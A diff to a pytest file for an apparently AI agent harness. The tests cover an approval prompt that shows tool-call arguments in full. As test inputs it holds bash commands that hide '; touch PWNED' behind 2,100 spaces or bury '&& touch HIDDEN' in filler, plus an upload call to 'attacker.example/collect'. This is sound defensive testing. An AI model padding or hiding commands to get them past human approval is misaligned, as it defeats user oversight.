@@ -12,15 +12,18 @@ import sys
 import termios
 import time
 import types
-from collections.abc import Iterator
+from collections.abc import AsyncIterator, Iterator
 from pathlib import Path
 from typing import Any
 
 import pytest
 
-from dsh_core import AbortController, Scope
+from dsh_core import AbortController, Scope, define_tool, hookimpl
+from dsh_core.config import compose
+from dsh_core.harness import Harness
 from dsh_core.model import ApprovalOutcome
-from dsh_plugins.approval import ApprovalPolicy
+from dsh_core.plugins import PluginCatalog
+from dsh_plugins.approval import ApprovalPolicy, describe_arguments
 
 pytestmark = pytest.mark.anyio
 
@@ -102,7 +105,7 @@ async def test_an_ask_is_answered_on_the_terminal(boot: Any, tmp_path: Path, ter
     async with boot(*rows(tmp_path, terminal=path, root=str(tmp_path))) as h:
         call = asyncio.ensure_future(h.call("bash", {"command": "touch made"}))
         prompt = await _read_until(master, b"[y/N] ")
-        assert b'tool "bash"' in prompt and b'{"command": "touch made"}' in prompt
+        assert b'tool "bash"' in prompt and b'command: "touch made"' in prompt
         assert str(tmp_path).encode() in prompt
         os.write(master, answer)
         result = await asyncio.wait_for(call, 5)
@@ -141,6 +144,108 @@ async def test_arguments_cannot_drive_the_terminal(boot: Any, tmp_path: Path, te
         os.write(master, b"n\n")
         await asyncio.wait_for(call, 5)
     assert b"\x1b" not in prompt and b"\\u001b[2J\\u0007" in prompt
+
+
+async def test_padding_cannot_hide_the_end_of_an_argument(boot: Any, tmp_path: Path,
+                                                         terminal: tuple[int, str]) -> None:
+    """A run of whitespace shows as its count: what follows 2,100 spaces is on screen, not cut away."""
+    master, path = terminal
+    command = "echo 'building docs'" + " " * 2100 + "; touch PWNED"
+    async with boot(*rows(tmp_path, terminal=path)) as h:
+        call = asyncio.ensure_future(h.call("bash", {"command": command}))
+        prompt = await _read_until(master, b"[y/N] ")
+        os.write(master, b"n\n")
+        await asyncio.wait_for(call, 5)
+    assert b"""command: "echo 'building docs'" [2,100 spaces] "; touch PWNED"\r\n""" in prompt
+    assert b"not shown" not in prompt and b"answer s" not in prompt  # nothing is cut: nothing to offer
+    assert not (tmp_path / "PWNED").exists()
+
+
+class _Upload:
+    """A third-party tool whose long payload argument sorts before the URL it goes to."""
+
+    @hookimpl
+    def dsh_register_tools(self, register: Any) -> None:
+        async def run(args: Any, ctx: Any) -> Any:
+            return {"sent_to": args["url"]}
+
+        register(define_tool(name="upload", description="POST data to a URL", execute=run, parameters={
+            "type": "object", "required": ["url", "data"],
+            "properties": {"url": {"type": "string"}, "data": {"type": "string"}, "method": {"type": "string"}}}))
+
+
+@contextlib.asynccontextmanager
+async def _upload_harness(path: str) -> AsyncIterator[Harness]:
+    deployment = compose([("test", {"tools": {"mode": "native"}, "plugins": [
+        {"id": "up", "use": "upload"}, {"id": "policy", "use": "approval", "config": {"terminal": path}}]})], env={})
+    catalog = PluginCatalog(strict=True, extra={"upload": lambda scope, config: _Upload()})
+    running = await Harness.start(deployment, catalog=catalog)
+    try:
+        yield running
+    finally:
+        await running.aclose()
+
+
+async def test_short_arguments_come_first_in_declared_order_and_a_long_one_shows_head_and_tail(
+        terminal: tuple[int, str]) -> None:
+    """url and method (short, in the schema's order, not sorted) precede data, cut in the middle with a count."""
+    master, path = terminal
+    data = "build log " * 250 + "THE END"  # 2,507 characters: its first 500 and last 400 show
+    async with _upload_harness(path) as h:
+        call = asyncio.ensure_future(h.call("upload", {"data": data, "method": "POST",
+                                                       "url": "https://attacker.example/collect"}))
+        prompt = (await _read_until(master, b"[y/N] ")).decode()
+        os.write(master, b"n\n")
+        assert (await asyncio.wait_for(call, 5)).code == "DENIED"
+    lines = prompt.split("\r\n")
+    assert lines[2:4] == ['  url: "https://attacker.example/collect"', '  method: "POST"']
+    assert lines[4] == f'  data: "{data[:500]}" ... [1,607 characters not shown] ... "{data[-400:]}"'
+    assert lines[5] == "  Not everything is shown: answer s to see every argument in full."
+
+
+async def test_answering_s_shows_every_argument_in_full_then_asks_again(boot: Any, tmp_path: Path,
+                                                                       terminal: tuple[int, str]) -> None:
+    """What a cut hid (no whitespace to collapse) is one answer away; the question is then asked again."""
+    master, path = terminal
+    command = "true " + "x" * 3000 + " && touch HIDDEN && " + "y" * 3000
+    async with boot(*rows(tmp_path, terminal=path)) as h:
+        call = asyncio.ensure_future(h.call("bash", {"command": command}))
+        prompt = await _read_until(master, b"[y/N] ")
+        assert b"HIDDEN" not in prompt and b"... [5,125 characters not shown] ..." in prompt
+        assert b"answer s to see every argument in full" in prompt
+        os.write(master, b"s\n")
+        shown = await _read_until(master, b"[y/N] ")
+        assert f'  command: "{command}"\r\nAllow "bash"? [y/N] '.encode() in shown
+        assert b'every argument of tool "bash", in full' in shown and b"not shown" not in shown
+        await asyncio.sleep(0.1)
+        assert not call.done()  # "s" is not an answer
+        os.write(master, b"n\n")
+        result = await asyncio.wait_for(call, 5)
+    assert result.code == "DENIED" and not (tmp_path / "HIDDEN").exists()
+
+
+def test_the_display_escapes_counts_whitespace_and_never_drops_silently() -> None:
+    """Escapes and bidi stay escapes; a mixed whitespace run counts each kind (a run under 16 stays as it is,
+    so indented code reads as written); nested and huge values are cut with a count; arguments past the
+    prompt's bound are counted; deep nesting is fine."""
+    lines, complete = describe_arguments({"text": "a\u202eb\x1b[2J" + " \n" * 2 + " " * 6 + "\t" * 2 + "\u00a0" * 8})
+    assert complete and lines == [
+        '  text: "a\\u202eb\\u001b[2J" [20 whitespace characters: 8 spaces, 2 newlines, 2 tabs, 8 x U+00A0]']
+    assert describe_arguments({"code": "if a:\n" + " " * 14 + "b()"}) == ([f'  code: "if a:\\n{" " * 14}b()"'], True)
+    lines, complete = describe_arguments({"edits": [{"old": "a", "new": "b" * 3000}], "n": 3, "ok": True})
+    assert lines[:2] == ["  n: 3", "  ok: true"] and not complete
+    assert lines[2].startswith('  edits: [{"old": "a", "new": "bbb') and lines[2].endswith('bbb"}]')
+    assert "... [2,117 characters not shown] ..." in lines[2]
+    many = {f"k{i}": "v" * 150 for i in range(100)}
+    lines, complete = describe_arguments(many)
+    assert not complete and lines[-1] == "  ... [63 more arguments not shown]"
+    assert describe_arguments(many, full=True) == ([f'  k{i}: "{"v" * 150}"' for i in range(100)], True)
+    deep: list[Any] = []
+    for _ in range(50_000):
+        deep = [deep]
+    assert not describe_arguments({"deep": deep})[1]
+    assert describe_arguments("not an object") == (['  "not an object"'], True)
+    assert describe_arguments({" odd key": ""}) == (['  " odd key": ""'], True)
 
 
 def test_dsh_approve_is_a_plain_function_that_abstains_without_a_terminal() -> None:
